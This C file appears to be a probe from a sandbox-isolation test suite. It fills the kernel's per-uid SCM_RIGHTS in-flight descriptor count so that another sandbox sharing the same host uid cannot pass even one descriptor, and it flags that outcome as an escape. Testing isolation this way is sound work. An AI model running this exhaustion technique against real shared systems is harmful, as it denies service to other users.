/* dos_scm_inflight: put file descriptors in flight (SCM_RIGHTS messages
 * sent on a unix socket and never received) until the kernel refuses more.
 * The count is per host uid (user_struct.unix_inflight), and a sender is
 * refused once it exceeds the sender's own RLIMIT_NOFILE: one sandbox with
 * more in flight than another's open-file limit makes passing even one fd
 * fail there with ETOOMANYREFS. Before fluebox gave each sandbox its own
 * host ids, every sandbox started as root shared host uid 100000. The
 * holder stops at inflight_cap= descriptors (default 4096). Needs a
 * partner (dos.h). */
#include "dos.h"
#include <sys/socket.h>

#define PER_MSG 253 /* SCM_MAX_FD */

static int send_fds(int sock, int fd, int n)
{
    int fds[PER_MSG];
    for (int i = 0; i < n; i++)
        fds[i] = fd;
    char byte = 'x';
    struct iovec iov = {&byte, 1};
    union {
        char buf[CMSG_SPACE(sizeof(int) * PER_MSG)];
        struct cmsghdr align;
    } u;
    memset(&u, 0, sizeof u);
    struct msghdr mh = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = u.buf,
                        .msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)n)};
    struct cmsghdr *cm = CMSG_FIRSTHDR(&mh);
    cm->cmsg_level = SOL_SOCKET;
    cm->cmsg_type = SCM_RIGHTS;
    cm->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)n);
    memcpy(CMSG_DATA(cm), fds, sizeof(int) * (size_t)n);
    return sendmsg(sock, &mh, MSG_DONTWAIT | MSG_NOSIGNAL) == 1 ? 0 : -1;
}

static void probe_attempt(struct probe_res *r)
{
    int fd = open("/dev/null", O_RDONLY | O_CLOEXEC);
    int sv[2];
    if (fd < 0 || socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv) < 0) {
        res_error(r, "open/socketpair: %s", ename(errno));
        return;
    }
    if (dos_is_holder()) {
        long cap = parg_long("inflight_cap", 4096);
        long n = 0;
        int e = 0;
        while (n < cap) {
            int k = cap - n < PER_MSG ? (int)(cap - n) : PER_MSG;
            if (send_fds(sv[0], fd, k) < 0) {
                e = errno;
                break;
            }
            n += k;
        }
        dos_hold(r, "%ld descriptors in flight (then %s)", n, e ? ename(e) : "the cap");
        return;
    }
    if (send_fds(sv[0], fd, 1) == 0)
        res_note(r, "the victim passed a descriptor");
    else if (errno == ETOOMANYREFS)
        res_escape(r, "the victim cannot pass one descriptor: ETOOMANYREFS");
    else
        res_note(r, "victim: sendmsg: %s", ename(errno));
}

PROBE_MAIN("dos_scm_inflight")
